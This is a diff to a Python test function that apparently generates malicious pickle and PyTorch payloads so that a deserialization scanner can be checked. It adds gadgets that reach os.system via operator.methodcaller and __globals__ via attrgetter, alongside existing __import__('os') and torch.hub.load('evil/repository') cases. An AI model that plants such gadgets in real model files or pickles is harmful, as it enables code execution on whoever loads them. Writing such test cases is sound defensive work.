@@ -60,6 +60,9 @@ def pytorch_calls():
     ]:
         attack(f"{module}.{function}", call(glob(module, function), code))
     attack("builtins.getattr", call(glob("builtins", "getattr"), glob("os", "path"), text("system")))
+    attack("__globals__", call(glob("operator", "attrgetter"), text("__globals__")))
+    attack("system", call(glob("operator", "methodcaller"), text("system"), text("true")))
+    attack("posixpath.join", glob("posixpath", "join"))
     attack("builtins.__import__", call(glob("builtins", "__import__"), text("os")))
     attack("importlib", call(glob("importlib", "import_module"), text("os")))
     attack("torch.hub", call(glob("torch.hub", "load"), text("evil/repository")))
